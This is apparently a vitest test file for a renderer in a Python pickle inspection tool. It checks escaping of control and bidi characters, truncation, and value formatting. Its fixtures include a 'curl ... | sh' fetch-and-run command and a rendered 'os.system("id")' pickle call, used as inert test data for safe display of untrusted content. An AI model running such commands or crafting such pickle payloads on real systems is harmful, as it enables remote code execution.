import { describe, expect, test } from 'vitest';
import { escapeText, quoteStr, renderValue, safeName } from './render.js';
import { hasRawControl } from './test-utils.js';
import { Call, Global, PyBytes, PyDict, PyFloat, PyList, PySet, PyStr, PyTuple, Unknown } from './values.js';

describe('render', () => {
  test('escapes control, ANSI, bidi and separator characters', () => {
    expect(escapeText('a\nb\r\t\x1b[31m\u202e\u2028\u0085"\\')).toBe('a\\nb\\r\\t\\x1b[31m\\u202e\\u2028\\x85\\"\\\\');
    expect(renderValue('\x00\x07')).toBe('"\\x00\\x07"');
    expect(hasRawControl(renderValue(`x\u2066y\x9b\u2029`))).toBe(false);
  });

  test('shortens long strings in the middle, truncated strings at the end', () => {
    const s = `curl http://example.test/${'x'.repeat(200)} | sh`;
    expect(quoteStr(s)).toMatch(/^"curl http:\/\/example\.test\/x+ … x+ \| sh"$/);
    expect(quoteStr(s).length).toBeLessThan(100);
    expect(renderValue(new PyStr('abc', 5_000_000))).toBe('"abc …" (5000000 bytes)');
  });

  test('names are bare when they are identifier paths, quoted otherwise', () => {
    expect(safeName('os.path')).toBe('os.path');
    expect(safeName('os\nsystem')).toBe('"os\\nsystem"');
  });

  test('values', () => {
    const g = new Global('os', 'system', undefined, false);
    expect(renderValue(new Call('REDUCE', g, ['id'], null, 0))).toBe('os.system("id")');
    expect(renderValue(new Call('REDUCE', g, ['id'], new PyDict(['shell'], [true]), 0))).toBe('os.system("id", shell=True)');
    expect(renderValue(new PyTuple([1]))).toBe('(1,)');
    expect(renderValue(new PyList([1, null, false]))).toBe('[1, None, False]');
    expect(renderValue(new PySet([], false))).toBe('set()');
    expect(renderValue(new PySet([1], true))).toBe('frozenset({1})');
    expect(renderValue(new PyFloat(1))).toBe('1.0');
    expect(renderValue(new PyFloat(NaN))).toBe('nan');
    expect(renderValue(new PyBytes(Uint8Array.of(0, 0x41), 0, 2, false))).toBe('b"\\x00A"');
    expect(renderValue(new PyBytes(undefined, 10, 99999, false))).toBe('<bytes of 99999 bytes at offset 10>');
    expect(renderValue(new Unknown('x'))).toBe('<x>');
    expect(renderValue(new Global('os', '', undefined, false))).toBe('os');
    expect(renderValue(new PyList(Array.from({ length: 10 }, (_, i) => i), 5))).toBe('[0, 1, 2, 3, 4, 5, …9 more]');
  });

  test('deep and cyclic structures stay bounded', () => {
    const l = new PyList([]);
    l.items.push(l);
    expect(renderValue(l).length).toBeLessThan(500);
    let t: PyTuple = new PyTuple([1]);
    for (let i = 0; i < 1000; i++) t = new PyTuple([t]);
    expect(renderValue(t).length).toBeLessThan(500);
  });
});
